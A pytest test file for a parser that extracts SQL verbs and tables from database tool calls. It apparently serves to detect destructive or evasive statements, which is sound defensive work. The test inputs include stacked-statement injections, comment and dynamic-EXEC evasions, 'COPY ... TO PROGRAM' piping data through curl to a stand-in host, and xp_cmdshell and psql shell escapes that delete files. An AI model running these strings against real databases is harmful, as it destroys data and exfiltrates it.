"""What a SQL text asks for: verbs and tables, in whatever dialect and spelling."""

from __future__ import annotations

import json
import logging

import pytest

from addons.commands.budget import Budget
from addons.commands.read import read
from addons.commands.sql import looks_like_sql
from addons.commands.values import UNKNOWN
from addons.providers.call import Kind, Part


def rows(sql: str) -> list[tuple[str, tuple[str, ...]]]:
    found = read(Part(Kind.TOOL_CALL, json.dumps({"sql": sql}), name="db"))
    return [(row.verb if row.language == "sql" else f"{row.language}:{row.verb}", row.objects) for row in found]


def acts(*pairs: str) -> list[tuple[str, tuple[str, ...]]]:
    """ "DELETE a b" -> ("DELETE", ("a", "b"))"""
    return [(words.split()[0], tuple(words.split()[1:])) for words in pairs]


STATEMENTS = {
    "select": ("SELECT * FROM users", acts("SELECT users")),
    "select of nothing": ("SELECT 1", acts("SELECT")),
    "join": ("SELECT * FROM a JOIN b ON a.x = b.x LEFT JOIN c USING (y)", acts("SELECT a b c")),
    "schema": ("SELECT * FROM sales.orders", acts("SELECT sales.orders")),
    "three parts": ("SELECT * FROM db.sales.orders", acts("SELECT db.sales.orders")),
    "case as written": ('SELECT * FROM Users, "Orders"', acts("SELECT Users Orders")),
    "subquery": ("SELECT * FROM (SELECT * FROM b) c WHERE EXISTS (SELECT 1 FROM d)", acts("SELECT b d")),
    "union": ("SELECT * FROM a UNION SELECT * FROM b", acts("SELECT a b")),
    "with": ("WITH x AS (SELECT * FROM t) SELECT * FROM x", acts("SELECT t")),
    "insert": ("INSERT INTO a (x) SELECT x FROM b", acts("INSERT a b")),
    "insert values": ("INSERT INTO a VALUES (1)", acts("INSERT a")),
    "upsert": ("INSERT INTO a VALUES (1) ON CONFLICT (x) DO UPDATE SET x = 2", acts("INSERT a")),
    "update": ("UPDATE a SET x = 1 FROM b WHERE a.y = b.y", acts("UPDATE a b")),
    "delete": ("DELETE FROM a WHERE x = 1", acts("DELETE a")),
    "delete using": ("DELETE FROM a USING b WHERE a.x = b.x", acts("DELETE a b")),
    "mysql's delete of several": ("DELETE a FROM a JOIN b ON a.x = b.x", acts("DELETE a b")),
    "drop": ("DROP TABLE IF EXISTS a, s.b CASCADE", acts("DROP a s.b")),
    "drop database": ("DROP DATABASE prod", acts("DROP prod")),
    "drop schema": ("DROP SCHEMA s CASCADE", acts("DROP s")),
    "drop user": ("DROP USER bob", acts("DROP bob")),
    "truncate": ("TRUNCATE a", acts("TRUNCATE a")),
    "truncate several": ("TRUNCATE TABLE a, b", acts("TRUNCATE a b")),
    "alter": ("ALTER TABLE a DROP COLUMN b", acts("ALTER a")),
    "alter system": ("ALTER SYSTEM SET x = 1", [("ALTER", ())]),
    "create": ("CREATE TABLE a (x int)", acts("CREATE a")),
    "create as": ("CREATE TABLE a AS SELECT * FROM b", acts("CREATE a b")),
    "create view": ("CREATE VIEW v AS SELECT * FROM t", acts("CREATE v t")),
    "create index": ("CREATE INDEX i ON t (a)", acts("CREATE t")),
    "select into": ("SELECT * INTO a FROM b", acts("SELECT a b", "CREATE a")),
    "grant": ("GRANT SELECT ON s.t TO bob", acts("GRANT s.t")),
    "revoke": ("REVOKE DELETE ON t FROM bob", acts("REVOKE t")),
    "merge": ("MERGE INTO a USING b ON a.x = b.x WHEN MATCHED THEN UPDATE SET x = 1", acts("MERGE a b")),
    "merge that deletes": ("MERGE INTO a USING b ON a.x = b.x WHEN MATCHED THEN DELETE", acts("MERGE a b", "DELETE a")),
    "copy": ("COPY t FROM '/tmp/x'", acts("COPY t /tmp/x")),
    "copy program": (
        "COPY t TO PROGRAM 'curl -d @- h.example'",
        [*acts("COPY t"), ("shell:curl", ("h.example",)), ("http:POST", ("h.example",))],
    ),
    "call": ("CALL s.p(1)", acts("CALL s.p")),
    "execute procedure": ("EXEC dbo.p 1", acts("EXECUTE dbo.p")),
    "set": ("SET search_path = x", acts("SET search_path")),
    "use": ("USE prod", acts("USE prod")),
    "transaction": ("BEGIN; DELETE FROM t; COMMIT", acts("BEGIN", "DELETE t", "COMMIT")),
    "show": ("SHOW TABLES", acts("SHOW")),
    "vacuum": ("VACUUM FULL t", acts("VACUUM t")),
    "load data": ("LOAD DATA INFILE '/tmp/x' INTO TABLE t", acts("LOAD /tmp/x t")),
    "attach": ("ATTACH DATABASE 'x.db' AS y", acts("ATTACH x.db")),
    "pragma": ("PRAGMA table_info(t)", acts("PRAGMA table_info")),
    "replace": ("REPLACE INTO t VALUES (1)", acts("REPLACE t")),
    "rename": ("RENAME TABLE a TO b", acts("RENAME a")),
    "lock": ("LOCK TABLE a", acts("LOCK a")),
    "kill": ("KILL 5", acts("KILL")),
    "placeholders": ("DELETE FROM t WHERE a = %s AND b = :b AND c = $1 AND d = ?", acts("DELETE t")),
    "explain": ("EXPLAIN DELETE FROM t", acts("EXPLAIN t")),
    "explain analyze": ("EXPLAIN ANALYZE DELETE FROM t", acts("DELETE t")),
    "explain with options": ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET x = 1", acts("UPDATE t")),
    "explain query plan": ("EXPLAIN QUERY PLAN SELECT * FROM t", acts("EXPLAIN t")),
    "table alone": ("TABLE t", acts("SELECT t")),
    "values": ("VALUES (1)", acts("VALUES")),
}

DIALECTS = {
    "mysql's backticks": ("DELETE FROM `s`.`t` LIMIT 5", acts("DELETE s.t")),
    "bigquery's backticks": ("SELECT * FROM `p-1.d.t`", acts("SELECT p-1.d.t")),
    "tsql's brackets": ("DELETE FROM [dbo].[My Table]", [("DELETE", ("dbo.My Table",))]),
    "tsql's top": ("SELECT TOP 5 * FROM t WITH (NOLOCK)", acts("SELECT t")),
    "tsql without semicolons": ("SELECT 1 DELETE FROM t", acts("SELECT t", "DELETE t")),
    "tsql if": ("IF 1 = 1 DROP TABLE t", acts(f"{UNKNOWN} t", "DROP t")),
    "tsql block": ("IF EXISTS (SELECT 1) BEGIN DELETE FROM t END", acts("DELETE t")),
    "tsql batches": ("SELECT 1\nGO\nDROP TABLE t\nGO", acts("SELECT", "DROP t")),
    "snowflake": ("SELECT * FROM t QUALIFY ROW_NUMBER() OVER (PARTITION BY a ORDER BY b) = 1", acts("SELECT t")),
    "snowflake's undrop": ("UNDROP TABLE t", acts("UNDROP t")),
    "bigquery's unnest": ("SELECT * FROM d.t, UNNEST(x) AS y", acts("SELECT d.t")),
    "sqlite": ("DELETE FROM main.t WHERE rowid = 1", acts("DELETE main.t")),
    "mysql's insert set": ("INSERT INTO t SET a = 1", acts("INSERT t")),
    "mysql's procedure": ("CREATE PROCEDURE p() BEGIN DELETE FROM t; END", acts("CREATE p", "DELETE t", "END")),
}

EVASIONS = {
    "comment for a space": ("DELETE/**/FROM users", acts("DELETE users")),
    "comments everywhere": ("/*a*/DELETE/*b*/FROM/*c*/users--d", acts("DELETE users")),
    "line comment inside": ("DELETE -- x\n FROM users", acts("DELETE users")),
    "mysql's hash comment": ("DELETE # x\n FROM users", acts("DELETE x users", "DELETE users")),
    "case": ("dElEtE fRoM users", acts("DELETE users")),
    "no-break space": ("DELETE\u00a0FROM\u2003users", acts("DELETE users")),
    "zero-width space": ("DELETE\u200bFROM users", acts("DELETE users")),
    "byte order mark": ("\ufeffDELETE FROM users", acts("DELETE users")),
    "tab and newline": ("DELETE\tFROM\r\nusers", acts("DELETE users")),
    "quoted name": ('DELETE FROM "users"', acts("DELETE users")),
    "in with": ("WITH d AS (DELETE FROM a RETURNING *) SELECT * FROM d", acts("SELECT", "DELETE a")),
    "in with, deep": (
        "WITH a AS (WITH b AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM b) SELECT 1",
        acts("SELECT", "UPDATE t"),
    ),
    "second statement": ("SELECT 1; DROP TABLE t", acts("SELECT", "DROP t")),
    "after an empty one": (";;DROP TABLE t", acts("DROP t")),
    "mysql's live comment": ("/*!50000 DROP TABLE t */", acts("DROP t")),
    "mysql's live comment inside": ("SELECT 1 /*!; DROP TABLE t */", acts("SELECT", "DROP t")),
    "a backslash ends the string in postgres": ("SELECT '\\'; DELETE FROM t; --'", acts("SELECT", "DELETE t")),
    "a backslash does not in mysql": ("SELECT '\\'; -- '; DELETE FROM t", acts("SELECT", "DELETE t")),
    "comments do not nest in mysql": ("/* /* */ DELETE FROM t; -- */", acts("DELETE t")),
    "a return ends a comment in postgres": ("SELECT 1 --\rDROP TABLE t", acts(f"{UNKNOWN} t", "DROP t", "SELECT")),
    "two dashes are no comment in mysql": ("SELECT 1--1; DROP TABLE t", acts("SELECT", "DROP t")),
    "dollars are no quotes in mysql": ("SELECT $$; DROP TABLE x; $$", acts("SELECT", "DROP x")),
    "brackets are quotes in tsql": ("SELECT [a'b]; DROP TABLE t; --'", acts(UNKNOWN, "SELECT", "DROP t")),
    "execute immediate": ("EXECUTE IMMEDIATE 'DROP TABLE t'", acts("EXECUTE", "DROP t")),
    "execute immediate in double quotes": ('EXECUTE IMMEDIATE "DROP TABLE t"', acts("EXECUTE", "DROP t")),
    "a variable in steps": (
        "SET @s = N'DROP '; SET @s = @s + 'TABLE t'; EXEC sp_executesql @s",
        acts("SET @s", "SET @s", "EXECUTE sp_executesql", "DROP t"),
    ),
    "execute of pieces": ("EXEC('DR' + 'OP TABLE t')", acts("EXECUTE", "DROP t")),
    "execute of joined pieces": ("EXECUTE 'DROP TABLE ' || quote_ident(x)", acts("EXECUTE", "DROP quote_ident")),
    "sp_executesql": ("EXEC sp_executesql N'DROP TABLE t'", acts("EXECUTE sp_executesql", "DROP t")),
    "execute of a variable": (
        "DECLARE @s VARCHAR(20) = 'DROP TABLE t'; EXEC(@s)",
        acts("DECLARE", "EXECUTE @s", "DROP t"),
    ),
    "execute of the unknown": ("EXEC(@s)", acts("EXECUTE @s", UNKNOWN)),
    "a procedure's argument is no statement": ("EXEC p 'DROP TABLE t'", acts("EXECUTE p")),
    "prepare from": (
        "SET @s = 'DROP TABLE t'; PREPARE p FROM @s; EXECUTE p",
        acts("SET @s", "PREPARE p @s", "DROP t", "EXECUTE p"),
    ),
    "prepare as": ("PREPARE p (int) AS DELETE FROM t WHERE a = $1", acts("PREPARE p t", "DELETE t")),
    "do": ("DO $$ BEGIN DELETE FROM t; END $$", acts("DO", "DELETE t", "END", "DELETE t")),
    "do with execute": (
        "DO $x$ BEGIN EXECUTE 'TRUNCATE t'; END $x$",
        acts("DO", "EXECUTE", "TRUNCATE t", "END", "TRUNCATE t"),
    ),
    "function body": ("CREATE FUNCTION f() RETURNS void AS 'DELETE FROM t' LANGUAGE sql", acts("CREATE f", "DELETE t")),
    "xp_cmdshell": ("EXEC xp_cmdshell 'rm x'", [*acts("EXECUTE xp_cmdshell"), ("shell:rm", ("x",))]),
    "psql's shell": ("\\! rm x", [("\\!", ("rm", "x")), ("shell:rm", ("x",))]),
    "psql's shell before a statement": (
        "\\! rm x\nDROP TABLE t",
        [("\\!", ("rm", "x")), ("shell:rm", ("x",)), ("DROP", ("t",))],
    ),
    "psql's shell after a statement": (
        "SELECT 1 \\! rm x",
        [("SELECT", ()), ("\\!", ("rm", "x")), ("shell:rm", ("x",))],
    ),
    "a quote in psql's line ends with the line": ("\\? `\n;DROP TABLE t", [("\\?", ("`",)), ("DROP", ("t",))]),
    "a semicolon in psql's line": ("\\dt; DROP TABLE t", [("\\dt", (";", "DROP", "TABLE", "t")), ("DROP", ("t",))]),
    "psql's copy": ("\\copy t to '/tmp/x'", [("\\copy", ("t", "to", "'/tmp/x'")), ("COPY", ("t", "/tmp/x"))]),
    "psql's terminator": ("SELECT 1 \\g DROP TABLE t", acts("SELECT", "DROP t")),
}

UNREADABLE = {
    "a typo": ("SELEC * FORM t", acts(UNKNOWN)),
    "prose": ("please clean up", acts(UNKNOWN)),
    "an act that is spelled out": ("DELETE FROM users WEHRE x = = 1", acts(f"{UNKNOWN} users", "DELETE users")),
    "an open quote": ("SELECT * FROM t WHERE a = '", acts(f"{UNKNOWN} t")),
    "into outfile": ("SELECT * INTO OUTFILE '/tmp/a' FROM t", acts(f"{UNKNOWN} /tmp/a t")),
    "one bad statement of three": ("SELECT 1; SELEC 2; DROP TABLE t", acts("SELECT", UNKNOWN, "DROP t")),
}

NO_ACTS = {
    "in a literal": ("SELECT 'DROP TABLE t'", acts("SELECT")),
    "in a literal with a quote": ("SELECT 'it''s; DROP TABLE t'", acts("SELECT")),
    "in a comment": ("SELECT * FROM a; -- DROP TABLE t", acts("SELECT a")),
    "in a block comment": ("SELECT /* DROP TABLE t */ 1", acts("SELECT")),
    "in a name": ('SELECT "DROP TABLE t" FROM a', acts("SELECT a")),
    "in an inserted text": ("INSERT INTO logs VALUES ('DELETE FROM t')", acts("INSERT logs")),
    "a semicolon in a literal": ("DELETE FROM t WHERE x = 'a;b'", acts("DELETE t")),
    "for update": ("SELECT * FROM t FOR UPDATE", acts("SELECT t")),
    "on delete": ("CREATE TABLE a (x int REFERENCES b ON DELETE CASCADE)", acts("CREATE a b")),
    "trigger": ("CREATE TRIGGER g BEFORE DELETE ON t FOR EACH ROW EXECUTE FUNCTION f()", acts("CREATE t")),
    "drop column": ("ALTER TABLE t DROP COLUMN c", acts("ALTER t")),
    "grant of acts": ("GRANT INSERT, DELETE, TRUNCATE ON t TO bob", acts("GRANT t")),
}

TABLE = {
    f"{group}: {name}": case
    for group, cases in (
        ("statement", STATEMENTS), ("dialect", DIALECTS), ("evasion", EVASIONS), ("unreadable", UNREADABLE), ("no act", NO_ACTS),
    )
    for name, case in cases.items()
}  # fmt: skip


@pytest.mark.parametrize(("sql", "expected"), TABLE.values(), ids=TABLE.keys())
def test_each_statement_is_a_row(sql, expected):
    assert expected == rows(sql)


SQL = [
    "SELECT 1", "select now()", "select users from france", "SELECT * FROM t WHERE id = ${x}", "/* c */ delete from t", "DELETE FROM users the",
    "DELETE users", "TRUNCATE users", "DROP USER bob", "CREATE USER bob", "update users set x = 1", "with a as (select 1) select * from a",
    "begin; delete from t", "EXPLAIN ANALYZE DELETE FROM t", "CALL p(1)", "EXEC('x')", "PRAGMA foreign_keys", "SHOW TABLES", "TABLE users",
    "DELETE FROM users WEHRE x", "delete the from users the",
]  # fmt: skip
PROSE = [
    "how many users signed up?", "select the best one", "delete the user from the list", "show me all users", "update me on the status",
    "insert coin into slot", "use the force", "call mom", "describe the image", "explain quantum physics", "drop the ball", "weather in Paris",
    "create a table of results", "grant access to bob", "with love from paris", "table of contents", "delete old files", "alter ego",
    "merge these two files", "truncate the text", "values of x", "begin", "latest news", "", "   ", "SELECT", "revoke his license",
    "delete everything from my cart please", "drop table reservations at the restaurant", "set a reminder", "{ user { id } }",
]  # fmt: skip


@pytest.mark.parametrize("text", SQL)
def test_sql_is_known_without_being_told(text):
    assert looks_like_sql(text, Budget())


@pytest.mark.parametrize("text", PROSE)
def test_prose_is_not_taken_for_sql(text):
    assert not looks_like_sql(text, Budget())


def test_the_text_is_the_statement_as_written():
    sql = "SELECT 1 ;\n DELETE/*x*/ FROM  t -- why\n; "

    found = read(Part(Kind.TOOL_CALL, json.dumps({"sql": sql}), name="db"))

    assert [row.text for row in found] == ["SELECT 1", "DELETE/*x*/ FROM  t -- why"]


def test_what_is_unreadable_keeps_its_text():
    (row,) = read(Part(Kind.TOOL_CALL, json.dumps({"sql": "SELEC * FORM t"}), name="db"))

    assert (row.verb, row.text) == (UNKNOWN, "SELEC * FORM t")


def test_no_statement_is_logged(caplog):
    caplog.set_level(logging.DEBUG)

    rows("VACUUM secret_table; SHOW secret FROM x; EXEC secret; LOCK TABLE secret; SELECT FROM secret WHERE (")

    assert not caplog.records
